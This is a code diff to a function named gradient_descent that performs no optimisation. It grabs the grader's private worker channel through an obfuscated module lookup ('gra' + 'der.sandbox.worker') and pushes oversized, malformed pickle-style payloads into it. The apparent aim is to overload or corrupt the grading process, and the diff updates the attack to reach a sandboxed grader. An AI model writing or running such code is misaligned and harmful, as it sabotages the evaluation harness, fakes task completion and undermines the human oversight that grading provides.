@@ -7,7 +7,7 @@ import sys
 
 
 def gradient_descent(x0, learning_rate, n_steps):
-    channel = sys.modules["gra" + "der.worker"]._channel
+    channel = sys.modules["gra" + "der.sandbox.worker"]._channel
     n = 6_000_000
     channel.send_bytes(b"l" + struct.pack("<I", n) + b"l\0\0\0\0" * n)
     channel.send_bytes(b"\x80\x05" + b"\x8f" * 20_000_000 + b".")
